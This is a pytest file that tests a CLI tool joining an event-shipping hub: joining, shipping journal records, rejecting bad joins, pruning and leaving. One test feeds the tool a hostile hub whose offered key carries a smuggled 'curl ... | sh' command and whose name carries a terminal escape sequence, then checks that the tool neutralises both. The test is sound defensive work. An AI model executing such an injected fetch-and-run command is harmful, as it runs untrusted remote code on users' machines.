"""A machine joins a hub, ships, and leaves it: as people type it."""

import os
import time

import pytest

from synaptic.daemon.shipper import is_shipping
from synaptic.hub.keys import SecretKey
from synaptic.store import journal
from synaptic.store.db import Store
from synaptic.store.record import EventRecord
from tests.cli.conftest import User
from tests.hub.shipping.conftest import wait_until
from tests.hub.shipping.fake_hub import FakeHub


@pytest.fixture
def hub():
    opened = FakeHub()
    yield opened
    opened.close()


@pytest.fixture
def host(user: User):
    remember(user, 3)
    yield user
    user.types("leave")
    wait_until(lambda: not is_shipping(user.home))


def remember(user: User, count: int) -> None:
    store = Store.open(user.home)
    made = (
        EventRecord(call=f"c{os.urandom(4).hex()}", at=time.time(), agent="claude", event="Stop") for _ in range(count)
    )
    journal.append_records(store, list(made))
    store.close()


def test_a_machine_joins_ships_everything_and_leaves(host: User, hub: FakeHub):
    assert "nothing leaves this machine" in host.types("ship").out
    assert host.types("ship", "now", "--wait", "1").code == 1
    joined = host.types("join", hub.url, "--code", "right", "--name", "runner", "--json")
    assert joined.json == {"ok": True, "hub": "test hub", "url": hub.url, "host": "runner-1"}
    for name in ("joined.json", "host.key"):
        assert (host.home.hub / name).stat().st_mode & 0o777 == 0o600
    done = host.types("ship", "now", "--wait", "30", "--json")
    assert (done.code, done.json["destinations"][0]["waiting"]) == (0, 0)
    assert len(hub.events["runner-1"]) == 3
    assert "has everything, up to event 3" in host.types("ship").out

    again = host.types("join", hub.url, "--code", "right")
    assert again.code == 1 and "has joined" in again.err and "synaptic leave" in again.err
    assert "left" in host.types("leave").out
    assert "no hub was joined" in host.types("leave").out
    assert not (host.home.hub / "host.key").exists()


def test_what_cannot_be_brought_out_in_time_is_said(host: User, hub: FakeHub):
    host.types("join", hub.url, "--code", "right", "--name", "runner")
    assert host.types("ship", "now", "--wait", "30").code == 0
    with hub.away():
        remember(host, 2)
        shown = host.types("ship", "now", "--wait", "2")
        assert shown.code == 1
        assert "2 events wait" in shown.out
    assert host.types("ship", "now", "--wait", "60").code == 0


@pytest.mark.parametrize(
    ("words", "told"),
    [
        (("http://hub.example", "--code", "x"), "everybody on the way"),
        (("URL", "--code", "wrong"), "wrong, used or old"),
        (("URL", "--code", "right", "--key", "nonsense"), "public key"),
        (("URL", "--code", "right", "--managed"), "--managed needs --key"),
        (("URL", "--code", "right", "--certificate", "/nonexistent"), "no certificates"),
    ],
)
def test_a_join_that_fails_leaves_nothing_behind(user: User, hub: FakeHub, words, told: str):
    shown = user.types("join", *(hub.url if word == "URL" else word for word in words))
    assert shown.code == 1 and told in shown.err
    assert not user.home.joined.exists()
    assert not is_shipping(user.home)


def test_without_a_terminal_and_a_code_nothing_is_asked(user: User, hub: FakeHub):
    shown = user.runs("join", hub.url)
    assert shown.code == 1 and "typed at a terminal" in shown.err


def test_the_key_is_believed_on_the_word_of_the_user_alone(host: User, hub: FakeHub):
    key = SecretKey.make().public.text
    assert host.types("join", hub.url, "--code", "right", "--key", key, "--managed").code == 0
    assert f'"organisation_key": "{key}"' in host.home.joined.read_text()


def test_what_waits_for_a_destination_is_pruned_on_a_persons_word_only(host: User, hub: FakeHub):
    hub.fault = "before"
    store = Store.open(host.home)
    old = time.time() - 40 * 86400
    journal.append_records(store, [EventRecord(call="old", at=old, agent="claude", event="Stop")])
    journal.append_records(store, [EventRecord(call="new", at=time.time(), agent="claude", event="Stop")])
    store.close()
    host.types("join", hub.url, "--code", "right", "--name", "runner")
    wait_until(lambda: ("POST", "/api/v1/events") in hub.asked)
    shown = host.types("prune", "--days", "30")
    assert "stay until they are shipped" in shown.out
    waiting = host.types("prune", "--days", "30", "--json").json
    gone = host.types("prune", "--days", "30", "--unshipped", "--json").json
    assert (gone["events"], gone["held"]) == (1, 0)
    assert (waiting["events"], waiting["held"]) == (0, 1)


def test_what_a_hub_calls_its_key_becomes_no_command(host: User, hub: FakeHub):
    hub.name, hub.offered = "h\x1b[2J" + "x" * 200_000, "RWx; curl https://e.example/x | sh"
    shown = host.types("join", hub.url, "--code", "right", "--name", "runner")
    assert (shown.code, "curl" in shown.out, "\x1b" in shown.out) == (0, False, False)
    assert len(shown.out) < 1000
    assert "runner-1" in host.types("leave").out, "what was kept can be read"
